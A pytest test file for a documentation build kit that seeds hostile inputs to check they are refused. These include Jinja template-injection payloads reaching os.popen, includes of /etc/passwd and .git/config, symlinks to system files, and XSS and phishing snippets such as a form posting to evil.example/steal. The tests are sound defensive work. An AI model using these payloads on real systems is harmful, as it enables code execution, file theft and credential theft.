"""Bad-input corpus, real builds: many seeded defects per build, every finding asserted from
one output. Four builds in all (one stops in its first hook, so it costs little)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import QUIET_ENV, REPO, BuildResult, build, copy_kit, replace_in, small_kit
from policykit.checks.active import kit_script_hashes, site_findings
from safetycases import injected_problems, write_poisoned_variables

pytestmark = pytest.mark.build

FRONT = "---\ntopics: [ai]\nowner: legal\nlast_reviewed: 2026-11-20\n---\n\n# T\n\n"


def add_page(project: Path, name: str, body: str) -> None:
    """A page in both languages (the Dutch one carries ``body``), listed in the navigation."""
    for lang, text in (("nl", body), ("en", "Plain text.\n")):
        (project / "docs" / f"{name}.{lang}.md").write_text(FRONT + text, encoding="utf-8")
    replace_in(project / "mkdocs.yml", "      - policy/ai.md\n",
               f"      - policy/ai.md\n      - {name}.md\n")


def assert_clean_failure(result: BuildResult) -> None:
    assert result.returncode != 0, result.explain()
    assert "Traceback" not in result.output, result.explain()


# --- 4/5: source files stop the build in its first hook -------------------------------------

# The line of the page's title: the conflict below is written after it (front matter may grow).
_AI_HEADING = next(number for number, line in enumerate(
    (REPO / "docs/policy/ai.nl.md").read_text(encoding="utf-8").splitlines(), start=1)
    if line.startswith("# "))
SOURCE_CASES = [
    ("docs/leak.nl.md: symbolic link to '/etc/passwd', outside the repository", "link"),
    ("docs/_snippets/host.md: symbolic link to '/etc/hostname', outside the repository", "link"),
    ("docs/outside: symbolic link to '/etc', outside the repository", "folder link"),
    ("overrides/partials/leak.html: symbolic link to '/etc/passwd'", "override link"),
    ("variables/loop.yml: symbolic link that loops or points nowhere", "loop"),
    (f"docs/policy/ai.nl.md:{_AI_HEADING + 2}: merge conflict marker '<<<<<<<'", "conflict start"),
    (f"docs/policy/ai.nl.md:{_AI_HEADING + 4}: merge conflict marker '======='", "conflict middle"),
    (f"docs/policy/ai.nl.md:{_AI_HEADING + 6}: merge conflict marker '>>>>>>>'", "conflict end"),
    ("docs/assets/stylesheets/policykit.css:2: merge conflict marker '<<<<<<<'", "css"),
    ("variables/company.yml:1: merge conflict marker '<<<<<<<'", "variables"),
    ("overrides/main.html:1: merge conflict marker '<<<<<<<'", "override"),
    ("docs/latin1.nl.md:1: not UTF-8 text (byte 0xe9) — save the file as UTF-8", "encoding"),
    ("docs/image.nl.md: a binary file, not text", "binary"),
    ("docs/huge.nl.md: the file is 2.0 MB, more than the 2 MB allowed", "size"),
]


@pytest.fixture(scope="module")
def source_build(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    project = copy_kit(tmp_path_factory.mktemp("sources") / "kit")
    docs = project / "docs"
    (docs / "leak.nl.md").symlink_to("/etc/passwd")
    (docs / "_snippets" / "host.md").symlink_to("/etc/hostname")
    (docs / "outside").symlink_to("/etc")
    (project / "overrides" / "partials" / "leak.html").symlink_to("/etc/passwd")
    (project / "variables" / "loop.yml").symlink_to("loop.yml")
    page = docs / "policy" / "ai.nl.md"
    page.write_text(page.read_text(encoding="utf-8").replace(
        "# AI-gegenereerde inhoud\n", "# AI-gegenereerde inhoud\n\n<<<<<<< HEAD\nons\n=======\n"
        "kit\n>>>>>>> v2\n", 1), encoding="utf-8")
    css = docs / "assets" / "stylesheets" / "policykit.css"
    css.write_text("a { }\n<<<<<<< ours\n=======\n>>>>>>> theirs\n" + css.read_text())
    for path in (project / "variables" / "company.yml", project / "overrides" / "main.html"):
        path.write_text("<<<<<<< HEAD\n=======\n>>>>>>> kit\n" + path.read_text(encoding="utf-8"),
                        encoding="utf-8")
    (docs / "latin1.nl.md").write_bytes("café\n".encode("latin-1"))
    (docs / "image.nl.md").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
    (docs / "huge.nl.md").write_bytes(b"x" * (2 * 1024 * 1024 + 10))
    return build(project)


@pytest.mark.parametrize(("fragment", "case"), SOURCE_CASES)
def test_source_file_problems_fail_first(source_build: BuildResult, fragment: str,
                                         case: str) -> None:
    assert_clean_failure(source_build)
    assert fragment in source_build.output, f"{case}:\n{source_build.explain()}"
    assert not (source_build.site / "leak.html").exists()
    assert "root:x:0:0" not in "".join(p.read_text(errors="replace")
                                       for p in source_build.site.rglob("*.html"))


# --- 1/3: templates and active content in one build ---------------------------------------

TEMPLATE_PAGES = {
    "bad/rce": ("{{ cycler.__init__.__globals__.os.popen('id').read() }}",
                "docs/bad/rce.nl.md:9: not allowed in a page: '__globals__' reaches Python internals"),
    "bad/mro": ("{{ ''.__class__.__mro__[1].__subclasses__() }}",
                "docs/bad/mro.nl.md:9: not allowed in a page: '__subclasses__' reaches Python"),
    "bad/info": ("{{ macros_info() }}", "docs/bad/info.nl.md:9: not allowed in a page: "
                 "'macros_info' is a debugging macro that prints paths"),
    "bad/passwd": ("{% include '/etc/passwd' %}", "docs/bad/passwd.nl.md:9: not allowed in a "
                   "page: include of '/etc/passwd' is not a relative name inside docs/_snippets"),
    "bad/git": ("{% include '../../.git/config' %}",
                "docs/bad/git.nl.md:9: not allowed in a page: include of '../../.git/config' climbs"),
    "bad/zero": ("{{ 1/0 }}", "docs/bad/zero.nl.md:9: division by zero — divide by a number"),
    "bad/huge": ("{{ 'A'*10**10 }}", "docs/bad/huge.nl.md:9: not allowed in a page: "
                 "'* 10000000000' repeats a text past 100,000 characters"),
    "bad/range": ("{% for i in range(10**9) %}x{% endfor %}",
                  "docs/bad/range.nl.md:9: not allowed in a page: range() with 1,000,000,000 items"),
    "bad/safe": ("{{ policy.title | safe }}", "docs/bad/safe.nl.md:9: not allowed in a page: "
                 "'|safe': it would insert a value as HTML"),
    "bad/grow": ("{% set s = 'ab' %}{{ s * 100000 }}", "docs/bad/grow.nl.md:9: not allowed in a "
                 "page: '* 100000' repeats a text or list past 100,000 characters"),
    "bad/format": ("{{ policy.title.format(1) }}",
                   "docs/bad/format.nl.md:9: not allowed in a page: '.format' of str"),
    "bad/script": ("<script>alert(document.cookie)</script>",
                   "docs/bad/script.nl.md:9: inline <script> (sha256-"),
    "bad/onclick": ('<p onclick="alert(1)">klik</p>', "docs/bad/onclick.nl.md:9: <p onclick=…> runs "
                    "JavaScript when the reader acts"),
    "bad/jslink": ('<a href="javascript:alert(1)">x</a>',
                   'docs/bad/jslink.nl.md:9: <a href="javascript:…"> runs a script'),
    "bad/base": ('<base href="https://evil.example/">',
                 "docs/bad/base.nl.md:9: <base> changes where every link of the page goes"),
    "bad/refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
                    "docs/bad/refresh.nl.md:9: <meta http-equiv=refresh> sends the reader"),
    "bad/form": ('<form action="https://evil.example/steal"><input name="p"></form>',
                 "docs/bad/form.nl.md:9: <form> sends what a reader types to 'https://evil"),
    "bad/use": ('<svg><use href="https://evil.example/s.svg#a"></use></svg>',
                "docs/bad/use.nl.md:9: <use> shows 'https://evil.example/s.svg#a' from another host"),
    "bad/embed": ('<embed src="x.swf">', "docs/bad/embed.nl.md:9: <embed> embeds a program"),
}


@pytest.fixture(scope="module")
def template_build(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    project = small_kit(tmp_path_factory.mktemp("templates") / "kit")
    (project / "docs" / "bad").mkdir()
    for name, (body, _) in TEMPLATE_PAGES.items():
        add_page(project, name, body + "\n")
    return build(project)


@pytest.mark.parametrize("name", sorted(TEMPLATE_PAGES))
def test_refused_template_or_active_content_is_a_finding(template_build: BuildResult,
                                                         name: str) -> None:
    assert_clean_failure(template_build)
    assert TEMPLATE_PAGES[name][1] in template_build.output, template_build.explain()


def test_nothing_of_the_build_machine_reaches_the_site(template_build: BuildResult) -> None:
    site = "".join(p.read_text(errors="replace") for p in template_build.site.rglob("*.html"))
    for secret in ("uid=", "root:x:0:0", "[core]", str(REPO), "<subclass", "AAAAAAAAAAAAAAAA"):
        assert secret not in site, secret
    assert "alert(document.cookie)" in site, "the page with the script was built (and refused)"


def test_publish_check_applies_the_build_rules(template_build: BuildResult) -> None:
    found = site_findings(template_build.site, kit_script_hashes(REPO))
    pages = {f.path for f in found}
    assert {"bad/script.html", "bad/onclick.html", "bad/jslink.html", "bad/base.html",
            "bad/refresh.html", "bad/form.html", "bad/use.html", "bad/embed.html"} <= pages
    assert all(f.line for f in found if f.check == "active")
    assert not any(p.startswith("bad/rce") for p in pages)


# --- 2: values are text everywhere ----------------------------------------------------------

@pytest.fixture(scope="module")
def poisoned_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[BuildResult, int]:
    project = copy_kit(tmp_path_factory.mktemp("poisoned") / "kit")
    carried = write_poisoned_variables(project)
    return build(project), carried


def test_every_value_stays_text_in_every_built_file(poisoned_build) -> None:
    result, carried = poisoned_build
    assert result.returncode == 0, result.explain()
    assert carried > 100, "the generated variables carry the payload in most texts"
    for rel in ("index.html", "en/index.html", "print.html", "en/print.html", "404.html",
                "coverage.html", "contacts.html", "search/search_index.json",
                "policykit-report.json"):
        assert "P1" in result.page(rel), f"{rel} shows no value: the test would prove nothing"
    assert injected_problems(result.site) == []
    assert "P5&#123;&#123; 7&#42;7 &#125;&#125;P6" in result.page("index.html")


# --- 7: publish refuses impossible destinations with one message -----------------------------

@pytest.mark.parametrize(("dest", "fragment"), [
    ("/proc/policy-site", "is inside a system folder (/proc, /sys or /dev)"),
    ("{tmp}/missing/parent/site", "does not exist — create that folder first"),
])
def test_publish_command_refuses_bad_destinations(dest: str, fragment: str,
                                                  tmp_path: Path) -> None:
    env = {**os.environ, **QUIET_ENV, "PYTHONPATH": str(REPO / "hooks")}
    done = subprocess.run([sys.executable, "-m", "policykit.lifecycle.cli", "publish", "--dest",
                           dest.format(tmp=tmp_path), "--root", str(REPO)], env=env,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert fragment in done.stderr and "was not changed" in done.stderr
    assert "Traceback" not in done.stderr + done.stdout
